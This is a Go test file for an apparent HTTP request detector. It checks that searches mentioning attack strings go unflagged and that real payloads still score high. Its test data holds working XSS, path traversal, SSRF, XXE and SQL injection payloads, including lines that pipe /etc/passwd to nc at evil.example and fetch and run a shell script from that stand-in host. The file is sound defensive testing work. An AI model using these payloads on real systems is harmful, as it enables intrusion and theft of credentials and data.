package patterns

import (
	"bytes"
	"net/url"
	"testing"
)

// TestProseMentionsNotFlagged: searches about an attack string, as the
// session-8 benign reviewer's visitors typed them into a documentation
// site's search box (bench/detect/realistic/findings search-*), and the
// search page's URL as the referer of the assets it loads. Each banned its
// visitor at the first request before (xss-libinjection, lfi-etc-passwd,
// ssrf-cloud-metadata, xxe-entity, lfi-absolute-path).
func TestProseMentionsNotFlagged(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, q := range []string{
		"<script> tag defer vs async",
		"difference between <script> and <noscript>",
		"<iframe> responsive height",
		"what's the <base> tag for",
		"/etc/passwd format explained",
		"/etc/group file fields meaning",
		"169.254.169.254 metadata aws",
		"<!ENTITY xml",
		"<!ENTITY declaration example",
		"XInclude in docbook",
	} {
		target := "/search?q=" + url.QueryEscape(q)
		if hits := m.Match(req("GET", target, browserUA, ""), nil); len(hits) != 0 {
			t.Errorf("GET %s: %v, want no hit (a search about the string)", target, ids(hits))
		}
		ref := "https://www.example.org" + target
		if hits := m.Match(req("GET", "/static/js/app.js", browserUA, ref), nil); len(hits) != 0 {
			t.Errorf("referer %s: %v, want no hit", ref, ids(hits))
		}
	}
}

// TestURLTagStubNotBanned: a code search for where pages load external
// scripts (benign-s8 gitlab-code-search-script: search=<script
// src="https://, banned by xss-libinjection) keeps only xss-active-tag's
// weak hint.
func TestURLTagStubNotBanned(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, q := range []string{`<script src="https://`, "<script src=", "<img src='", "<iframe src=\"http://"} {
		target := "/search?search=" + url.QueryEscape(q) + "&scope=blobs"
		if hits := m.Match(req("GET", target, browserUA, ""), nil); total(hits) >= 5 {
			t.Errorf("GET %s: %d points %v, want < 5", target, total(hits), ids(hits))
		}
	}
}

// TestProseExemptionKeepsPayloads: the same strings as working payloads, in
// the same search parameter, still ban alone; so do payloads with prose
// appended (the code runs whatever follows it) and prose with a payload in
// another parameter of the same query.
func TestProseExemptionKeepsPayloads(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, q := range []string{
		"<script>alert(1)</script>",
		"<script>alert(1)</script> tag defer vs async",
		"<script>alert`1`</script> tag",
		"<script src=//evil.example/x.js></script> tag",
		`<script src="https://evil.example/x.js">`,
		`<script src=https://evil.example/x.js`,
		`<img src="x" onerror="alert(1)`,
		`"><script>alert(document.domain)</script>`,
		"'}}</script><script>alert(1)</script>",
		"/etc/passwd",
		"/etc/passwd\x00.jpg",
		"../../../../etc/passwd",
		"/etc/passwd' and '1'='1",
		"cat /etc/passwd | nc evil.example 9000",
		"http://169.254.169.254/latest/meta-data/",
		"169.254.169.254",
		"http://169.254.169.254 ",
		`<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`,
		`<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">`,
		`<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>`,
		`<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>`,
	} {
		target := "/search?q=" + url.QueryEscape(q)
		if hits := m.Match(req("GET", target, browserUA, ""), nil); total(hits) < 10 {
			t.Errorf("GET %s: %d points %v, want >= 10", target, total(hits), ids(hits))
		}
		target = "/search?q=" + url.QueryEscape("what is /etc/passwd") + "&file=" + url.QueryEscape(q)
		if hits := m.Match(req("GET", target, browserUA, ""), nil); total(hits) < 10 {
			t.Errorf("GET %s: %d points %v, want >= 10", target, total(hits), ids(hits))
		}
	}
	// markup in a referer is excused only when every value holding it is prose
	for _, ref := range []string{
		"https://www.example.org/search?q=<script>alert(1)</script>",
		"https://www.example.org/search?q=<script>+tag&x=<script>alert(1)</script>",
		"https://www.example.org/<script>alert(1)</script>?q=<script>+tag",
	} {
		if hits := m.Match(req("GET", "/", browserUA, ref), nil); total(hits) < 10 {
			t.Errorf("referer %s: %d points %v, want >= 10", ref, total(hits), ids(hits))
		}
	}
}

// TestPhpMyAdminConsoleSQL: phpMyAdmin's browse, sort and search links
// carry the statement the page runs in sql_query (review s8 benign
// finding phpmyadmin-sort-links: xss... banned staff sorting a table by
// sqli-libinjection, and by cmdi-shell-command on its `quoted` names).
// An injection there or in any other parameter still counts.
func TestPhpMyAdminConsoleSQL(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, s := range []string{
		"SELECT * FROM `orders` WHERE `id` = 1042",
		"SELECT * FROM `orders`  \nORDER BY `orders`.`created_at` DESC",
		"SELECT * FROM `users` WHERE `email` LIKE '%@example.com'",
		"SHOW CREATE TABLE `orders`",
	} {
		target := "/phpmyadmin/index.php?route=/sql&db=shop&table=orders&sql_query=" + url.QueryEscape(s) + "&pos=0"
		for _, h := range m.Match(req("GET", target, browserUA, ""), nil) {
			if h.Category == SQLi || h.Category == CmdInjection {
				t.Errorf("GET %s: %s, want no SQL or command injection hit", target, h.ID)
			}
		}
	}
	for _, target := range []string{
		"/phpmyadmin/sql.php?sql_query=" + url.QueryEscape("1' or '1'='1"),
		"/phpmyadmin/sql.php?sql_query=" + url.QueryEscape("select 1 union select password from users"),
		"/phpmyadmin/sql.php?sql_query=" + url.QueryEscape("select load_file('/etc/passwd')"),
		"/phpmyadmin/sql.php?sql_query=" + url.QueryEscape("select `wget http://evil.example/a.sh|sh`"),
		"/phpmyadmin/sql.php?sql_query=" + url.QueryEscape("SELECT * FROM `orders`") + "&table=" + url.QueryEscape("x' or 1=1-- "),
		"/item.php?id=" + url.QueryEscape("SELECT * FROM `orders` WHERE `id` = 1042"),
	} {
		if hits := m.Match(req("GET", target, browserUA, ""), nil); total(hits) < 10 {
			t.Errorf("GET %s: %d points %v, want >= 10", target, total(hits), ids(hits))
		}
	}
}

// FuzzTagProse: what tagProse excuses can run nothing: no call, assignment,
// quote, template literal, statement end or attribute, and every '<' opens
// a bare tag. urlTagProse and consoleSQL take any bytes.
func FuzzTagProse(f *testing.F) {
	for _, s := range []string{"<script> tag defer vs async", "<script>alert(1)</script>", "what's <b>", "</script>'",
		"<script>x</script> y", "<a href=x>link</a>", "<", "<>", "<script", "a'b <i>"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		urlTagProse(b)
		for _, d := range catalogue {
			if d.prose != proseNone {
				v := newProseVeto(d)
				v.holds(b)
			}
		}
		if end, ok := proseTailAt(b, 0); end > len(b) || ok && bytes.IndexAny(b[:end], "/&|;<>()=\"`") >= 0 {
			t.Fatalf("proseTailAt(%q, 0) = %d, %v", b, end, ok)
		}
		if urlTagStub(b) && (bytes.Count(b, []byte("<")) != 1 || bytes.IndexAny(b, ">()`;.") >= 0) {
			t.Fatalf("urlTagStub(%q) = true: more than a tag cut off before its address", b)
		}
		consoleSQL([]byte("sql_query"), b)
		if !tagProse(b) {
			return
		}
		for i, c := range b {
			switch c {
			case '(', ')', '=', '"', '`', ';', ':', '{', '[', '\\', '&', '%', '/':
				if c == '/' && i > 0 && b[i-1] == '<' {
					continue
				}
				t.Fatalf("tagProse(%q) = true with %q at %d", b, c, i)
			case '<':
				j := i + 1
				if j < len(b) && b[j] == '/' {
					j++
				}
				k := j
				for k < len(b) && isLetter(b[k]) {
					k++
				}
				if k == j || k >= len(b) || b[k] != '>' {
					t.Fatalf("tagProse(%q) = true with a '<' at %d that opens no bare tag", b, i)
				}
			}
		}
	})
}
